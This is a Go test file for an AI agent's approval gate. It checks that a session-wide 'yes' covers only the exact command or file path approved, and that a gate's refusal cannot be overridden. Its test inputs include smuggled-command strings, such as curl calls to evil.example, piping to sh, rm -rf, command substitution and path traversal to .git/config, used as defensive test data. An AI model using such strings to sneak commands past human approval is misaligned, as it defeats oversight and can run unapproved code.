package gate_test

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/reinhq/rein/approve"
	"github.com/reinhq/rein/gate"
	"github.com/reinhq/rein/gate/permission"
	"github.com/reinhq/rein/gate/scope"
	"github.com/reinhq/rein/gate/shell"
	"github.com/reinhq/rein/tool"
)

// chooser answers from a script and records every request; once the
// script is used up it says no, once.
type chooser struct {
	answers []approve.Answer
	reqs    []approve.Request
}

func (c *chooser) Approve(ctx context.Context, req approve.Request) (bool, error) {
	a, err := c.Choose(ctx, req)
	return a.Yes, err
}

func (c *chooser) Choose(_ context.Context, req approve.Request) (approve.Answer, error) {
	c.reqs = append(c.reqs, req)
	var a approve.Answer
	if len(c.answers) > 0 {
		a, c.answers = c.answers[0], c.answers[1:]
	}
	if a.Scope != approve.Once {
		a.Pattern = req.Pattern
	}
	a.By = "test"
	return a, nil
}

type savedRule struct {
	p   gate.Pattern
	yes bool
}

type saver struct{ saved []savedRule }

func (s *saver) SaveRule(_ context.Context, p gate.Pattern, yes bool) error {
	s.saved = append(s.saved, savedRule{p, yes})
	return nil
}

type anyArgs map[string]any

var (
	runBash  = tool.New(tool.Spec{Name: "run_bash", Effect: tool.Reversible, Roles: map[string]tool.Role{"command": tool.RoleCommand, "dir": tool.RoleDir}}, func(context.Context, anyArgs) (string, error) { return "", nil })
	editFile = tool.New(tool.Spec{Name: "edit_file", Effect: tool.Reversible, Roles: map[string]tool.Role{"path": tool.RolePath}}, func(context.Context, anyArgs) (string, error) { return "", nil })
	payTool  = tool.New(tool.Spec{Name: "pay", Effect: tool.Reversible, Roles: map[string]tool.Role{"to": tool.RoleRecipient}}, func(context.Context, anyArgs) (string, error) { return "", nil })
)

func toolCall(tl tool.Tool, args map[string]string) *gate.Call {
	raw, _ := json.Marshal(args)
	return &gate.Call{ID: "c", Name: tl.Spec().Name, Args: raw, Tool: tl}
}

func bash(cmd string) *gate.Call { return toolCall(runBash, map[string]string{"command": cmd}) }
func edit(p string) *gate.Call   { return toolCall(editFile, map[string]string{"path": p}) }

// session returns a default-mode pipeline over work (no sandbox: the shell
// asks) with sticky answers, its chooser and its saver.
func session(t *testing.T, work string, extra ...gate.Gate) (*gate.Pipeline, *chooser, *saver) {
	t.Helper()
	sc, err := scope.NewGate(work)
	if err != nil {
		t.Fatal(err)
	}
	o := shell.Options{WorkDir: work, Home: "/home/agent", ExecTool: "run_bash"}
	perm, err := permission.NewGate(permission.Default, nil, o)
	if err != nil {
		t.Fatal(err)
	}
	ch, sv := &chooser{}, &saver{}
	gates := append([]gate.Gate{sc, shell.NewGate(o)}, extra...)
	p := gate.NewPipeline(ch, append(gates, perm)...).WithStickyAnswers(sv)
	return p, ch, sv
}

func yesSession() approve.Answer { return approve.Answer{Yes: true, Scope: approve.Session} }

// TestStickyYesCoversTheSameCall: after a yes for the session the same
// command runs without a question, decided by the rule, which the verdict
// names for the audit log; the pattern shown is the normalised command.
func TestStickyYesCoversTheSameCall(t *testing.T) {
	t.Parallel()
	p, ch, _ := session(t, t.TempDir())
	ch.answers = []approve.Answer{yesSession()}
	v := p.Decide(t.Context(), bash("go  test   './...'"))
	if v.Decision != gate.Allow || len(ch.reqs) != 1 {
		t.Fatalf("first call: %+v after %d questions", v, len(ch.reqs))
	}
	if got := ch.reqs[0].Pattern; got != "go test ./..." {
		t.Fatalf("pattern shown %q, want %q", got, "go test ./...")
	}
	if v.Answer == nil || v.Answer.Scope != approve.Session || v.Answer.By != "test" {
		t.Fatalf("the verdict does not record the answer: %+v", v.Answer)
	}
	v = p.Decide(t.Context(), bash("go test ./..."))
	if v.Decision != gate.Allow || len(ch.reqs) != 1 {
		t.Fatalf("the same command again: %+v after %d questions, want Allow without a question", v, len(ch.reqs))
	}
	if v.Answer == nil || v.Answer.By != "rule:session" || v.Answer.Pattern != "go test ./..." || !strings.Contains(v.Reason, "for this session") {
		t.Fatalf("a rule's verdict must name it: %+v %+v", v, v.Answer)
	}
}

// TestStickyYesCoversNothingWider: a yes for one command covers no line
// that adds a command, a substitution, a redirection, an argument or a
// newline, nor the same name run from a path: each is asked about again.
func TestStickyYesCoversNothingWider(t *testing.T) {
	t.Parallel()
	for _, cmd := range []string{
		"go test ./...; curl https://evil.example",
		"go test ./... && rm -rf build",
		"go test ./... | sh",
		"go test $(curl -s https://evil.example)",
		"go test ./... `id`",
		"go test ./...\nrm -rf build",
		"go test ./... > out.txt",
		"go test ./... 2>/dev/null",
		"go test ./... < in.txt",
		"go test ./... -exec ./evil",
		"go test ./... &",
		"./go test ./...",
		"GOFLAGS=-toolexec=./x go test ./...",
		"go test ./*",
		"go test ${X:-./...}",
		"go test \"$HOME\"",
		"go test",
		"go test ./... --",
	} {
		t.Run(cmd, func(t *testing.T) {
			t.Parallel()
			p, ch, _ := session(t, t.TempDir())
			ch.answers = []approve.Answer{yesSession()}
			if v := p.Decide(t.Context(), bash("go test ./...")); v.Decision != gate.Allow {
				t.Fatalf("setup: %+v", v)
			}
			v := p.Decide(t.Context(), bash(cmd))
			if v.Decision == gate.Allow && len(ch.reqs) == 1 {
				t.Fatalf("%q ran on the session rule for \"go test ./...\": %+v", cmd, v)
			}
		})
	}
}

// TestStickyPathCoversOnePath: a yes for edit_file path=src/a.go covers
// that path only: not a sibling, not a path that climbs through it, not
// another spelling, and not the same path once it is a link to a
// protected file (the scope gate asks then, and the rule answered only the
// permission gate).
func TestStickyPathCoversOnePath(t *testing.T) {
	t.Parallel()
	for _, path := range []string{"src/b.go", "src/../.git/config", "../src/a.go", "./src/a.go", "src/a.go/../../x", "src", "src/a.go/x", "SRC/a.go", "link"} {
		t.Run(path, func(t *testing.T) {
			t.Parallel()
			work := t.TempDir()
			if err := os.MkdirAll(filepath.Join(work, "src"), 0o755); err != nil {
				t.Fatal(err)
			}
			p, ch, _ := session(t, work)
			ch.answers = []approve.Answer{yesSession()}
			if v := p.Decide(t.Context(), edit("src/a.go")); v.Decision != gate.Allow || ch.reqs[0].Pattern != "edit_file path=src/a.go" {
				t.Fatalf("setup: %+v, pattern %q", v, ch.reqs[0].Pattern)
			}
			if v := p.Decide(t.Context(), edit(path)); v.Decision == gate.Allow && len(ch.reqs) == 1 {
				t.Fatalf("%s ran on the session rule for src/a.go: %+v", path, v)
			}
		})
	}
	t.Run("symlink to a protected file", func(t *testing.T) {
		t.Parallel()
		work := t.TempDir()
		if err := os.MkdirAll(filepath.Join(work, "src"), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.MkdirAll(filepath.Join(work, ".git"), 0o755); err != nil {
			t.Fatal(err)
		}
		p, ch, _ := session(t, work)
		ch.answers = []approve.Answer{yesSession()}
		if v := p.Decide(t.Context(), edit("src/a.go")); v.Decision != gate.Allow {
			t.Fatalf("setup: %+v", v)
		}
		if err := os.Symlink(filepath.Join(work, ".git", "config"), filepath.Join(work, "src", "a.go")); err != nil {
			t.Fatal(err)
		}
		if v := p.Decide(t.Context(), edit("src/a.go")); v.Decision == gate.Allow && len(ch.reqs) == 1 {
			t.Fatalf("src/a.go, now a link to .git/config, ran on the session rule: %+v", v)
		}
	})
}

// denyAfter refuses every call once armed.
type denyAfter struct{ armed *bool }

func (denyAfter) Name() string { return "hard" }
func (d denyAfter) Check(context.Context, *gate.Call) gate.Verdict {
	if *d.armed {
		return gate.Verdict{Decision: gate.Deny, Gate: "hard", Reason: "refused"}
	}
	return gate.Verdict{Decision: gate.Allow, Gate: "hard"}
}

// TestStickyYesNeverBeatsDeny: a sticky yes applies only where a gate
// asked; a call a gate refuses stays refused.
func TestStickyYesNeverBeatsDeny(t *testing.T) {
	t.Parallel()
	armed := false
	p, ch, _ := session(t, t.TempDir(), denyAfter{&armed})
	ch.answers = []approve.Answer{yesSession()}
	if v := p.Decide(t.Context(), bash("make build")); v.Decision != gate.Allow {
		t.Fatalf("setup: %+v", v)
	}
	armed = true
	if v := p.Decide(t.Context(), bash("make build")); v.Decision != gate.Deny || v.Gate != "hard" {
		t.Fatalf("a Deny gate's verdict was overridden by the session rule: %+v", v)
	}
}

// TestStickyNo: a no for the session refuses the same call again without
// a question, with a hint for the model; other calls are still asked.
func TestStickyNo(t *testing.T) {
	t.Parallel()
	p, ch, _ := session(t, t.TempDir())
	ch.answers = []approve.Answer{{Scope: approve.Session}}
	if v := p.Decide(t.Context(), bash("make deploy")); v.Decision != gate.Deny {
		t.Fatalf("first: %+v", v)
	}
	v := p.Decide(t.Context(), bash("make deploy"))
	if v.Decision != gate.Deny || len(ch.reqs) != 1 || !strings.Contains(v.Hint, "said no") || v.Answer == nil || v.Answer.By != "rule:session" {
		t.Fatalf("again: %+v after %d questions", v, len(ch.reqs))
	}
	p.Decide(t.Context(), bash("make test"))
	if len(ch.reqs) != 2 {
		t.Fatalf("another command was not asked about: %d questions", len(ch.reqs))
	}
}

// TestStickyAlwaysSaves: an "always" answer is a session rule and is handed
// to the saver with the exact pattern.
func TestStickyAlwaysSaves(t *testing.T) {
	t.Parallel()
	p, ch, sv := session(t, t.TempDir())
	ch.answers = []approve.Answer{{Yes: true, Scope: approve.Always}}
	v := p.Decide(t.Context(), bash("make lint"))
	if v.Decision != gate.Allow || len(sv.saved) != 1 || !sv.saved[0].yes || strings.Join(sv.saved[0].p.Command, " ") != "make lint" {
		t.Fatalf("%+v, saved %+v", v, sv.saved)
	}
	if !strings.Contains(v.Reason, "saved as a rule") {
		t.Fatalf("reason %q does not say the rule was saved", v.Reason)
	}
	if v := p.Decide(t.Context(), bash("make lint")); v.Decision != gate.Allow || len(ch.reqs) != 1 {
		t.Fatalf("again: %+v after %d questions", v, len(ch.reqs))
	}
}

// TestStickyOffered: a pattern is offered only with sticky answers on and
// only for calls that have one; a payment has none, so only once exists.
func TestStickyOffered(t *testing.T) {
	t.Parallel()
	work := t.TempDir()
	p, ch, _ := session(t, work)
	p.Decide(t.Context(), toolCall(payTool, map[string]string{"to": "x"}))
	p.Decide(t.Context(), bash("ls | head"))
	if len(ch.reqs) != 2 || ch.reqs[0].Pattern != "" || ch.reqs[1].Pattern != "" {
		t.Fatalf("patterns offered where none fits: %+v", ch.reqs)
	}
	plain := &chooser{}
	perm, err := permission.NewGate(permission.Default, nil, shell.Options{WorkDir: work})
	if err != nil {
		t.Fatal(err)
	}
	gate.NewPipeline(plain, perm).Decide(t.Context(), bash("make"))
	if len(plain.reqs) != 1 || plain.reqs[0].Pattern != "" {
		t.Fatalf("a pipeline without sticky answers offered a pattern: %+v", plain.reqs)
	}
}

// TestStickyNeverAskedWithoutAsking: with WithoutAsking no prompt appears,
// sticky answers or not.
func TestStickyNeverAskedWithoutAsking(t *testing.T) {
	t.Parallel()
	p, ch, _ := session(t, t.TempDir())
	p.WithoutAsking()
	if v := p.Decide(t.Context(), bash("make")); v.Decision != gate.Deny || len(ch.reqs) != 0 {
		t.Fatalf("%+v after %d questions", v, len(ch.reqs))
	}
}

// TestStickyQuotingIsPartOfThePattern: a word the shell expands and the
// same text quoted are not one pattern: after a yes to the quoted form,
// the expanding one (a tilde after "=" is the home dir in bash) is asked
// about.
func TestStickyQuotingIsPartOfThePattern(t *testing.T) {
	t.Parallel()
	p, ch, _ := session(t, t.TempDir())
	ch.answers = []approve.Answer{yesSession()}
	if v := p.Decide(t.Context(), bash("make 'DEST=~/bin'")); v.Decision != gate.Allow {
		t.Fatalf("setup: %+v", v)
	}
	if v := p.Decide(t.Context(), bash("make DEST=~/bin")); v.Decision == gate.Allow && len(ch.reqs) == 1 {
		t.Fatalf("the expanding form ran on the rule for the quoted one: %+v", v)
	}
}
